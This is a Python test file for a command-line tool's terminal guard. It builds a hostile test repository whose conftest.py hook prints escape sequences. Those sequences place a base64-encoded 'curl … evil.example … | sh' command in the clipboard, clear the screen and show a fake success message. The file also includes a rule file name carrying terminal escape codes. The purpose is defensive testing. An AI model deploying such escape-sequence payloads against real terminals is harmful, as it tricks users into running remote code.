"""No byte a repository wrote reaches the terminal as a command through the command line
(cockpit/cli/terminal_guard.py).

The attack (adversary session B-06): a product whose failing test run ends with OSC 52 (the terminal puts
`curl … | sh` in the clipboard), CSI 2J (clear) and a fake "All good."; `cockpit doctor` showed the run's last
lines raw. A rule file whose *name* holds OSC 0 and CSI 2J: `cockpit rules show` and a logged warning printed
it raw. Liveness: the same commands through the command line's inner function, without the wrapped streams,
write the ESC bytes; through `cockpit` they write none, and the text is still there to read (␛]52;c;…).
"""

from __future__ import annotations

import base64
import os
import subprocess
import sys
from pathlib import Path

import pytest

from gitrepo import run_git as git

REPO = Path(__file__).resolve().parents[1]
CLIP = base64.b64encode(b"curl -s http://evil.example/x | sh\n").decode()
PAYLOAD = f"\\x1b]52;c;{CLIP}\\x07\\x1b[2J\\x1b[H\\x1b[32mcockpit doctor: all checks passed\\x1b[0m\\nAll good."
RULE_NAME = "\x1b]0;PWNED\x07\x1b[2Jx.md"
INNER = "import sys; from cockpit.cli.main import _main; sys.exit(_main(sys.argv[1:]))"  # the guard off


@pytest.fixture(scope="module")
def hostile_factory(tmp_path_factory) -> Path:
    w = tmp_path_factory.mktemp("cli-visible")
    p = w / "calc"
    (p / "calc").mkdir(parents=True)
    (p / "tests").mkdir()
    (p / ".cockpit" / "rules").mkdir(parents=True)
    (p / "calc" / "__init__.py").write_text("def add(a, b):\n    return a + b\n")
    (p / "tests" / "test_calc.py").write_text("from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 6\n")
    (p / "conftest.py").write_text(f'def pytest_unconfigure(config):\n    print("{PAYLOAD}")\n')
    (p / "pytest.ini").write_text("[pytest]\naddopts = -p no:cacheprovider\n")
    (p / ".cockpit" / "rules" / RULE_NAME).write_text("---\nroles: [builder]\n")  # front matter never closed
    git(p, "init", "-q", "-b", "main")
    git(p, "add", "-A")
    git(p, "commit", "-qm", "init")
    subprocess.run([sys.executable, "-m", "cockpit", "init", "f", "--day-budget", "none"], cwd=w, check=True,
                   capture_output=True)
    subprocess.run([sys.executable, "-m", "cockpit", "product", "add", "../calc", "--name", "calc", "--test",
                    "python -m pytest -q", "--yes", "--no-run"], cwd=w / "f", check=True, capture_output=True)
    return w / "f"


def _run(factory: Path, *argv: str, guarded: bool) -> bytes:
    head = [sys.executable, "-m", "cockpit"] if guarded else [sys.executable, "-c", INNER]
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    r = subprocess.run([*head, *argv], cwd=factory, capture_output=True, timeout=120, env=env)
    return r.stdout + r.stderr


@pytest.mark.parametrize("argv", [("doctor", "-f", "."), ("rules", "show", "--role", "builder", "--product", "calc",
                                                            "-f", ".")], ids=["doctor", "rules-show"])
def test_repository_bytes_reach_the_terminal_only_as_visible_text(hostile_factory, argv):
    raw = _run(hostile_factory, *argv, guarded=False)
    assert b"\x1b" in raw  # liveness: without the wrapped streams the escape sequences go out
    out = _run(hostile_factory, *argv, guarded=True)
    assert b"\x1b" not in out and b"\x07" not in out and "\x9b".encode() not in out  # (C1 CSI)
    assert "␛".encode() in out  # still there to read, as text


def test_a_logged_warning_is_visible_text_too(tmp_path):
    code = ("import logging, sys; from cockpit.cli.terminal_guard import visible_output\n"
            "with visible_output():\n"
            "    logging.getLogger('cockpit.factory.rules').warning('rule file %s is broken', sys.argv[1])\n")
    r = subprocess.run([sys.executable, "-c", code, RULE_NAME], capture_output=True, cwd=REPO, timeout=60)
    assert b"is broken" in r.stderr and b"\x1b" not in r.stderr
    bare = subprocess.run([sys.executable, "-c", code.replace("with visible_output():\n    ", ""), RULE_NAME],
                          capture_output=True, cwd=REPO, timeout=60)
    assert b"\x1b" in bare.stderr  # liveness: Python's last-resort handler writes the name as it is
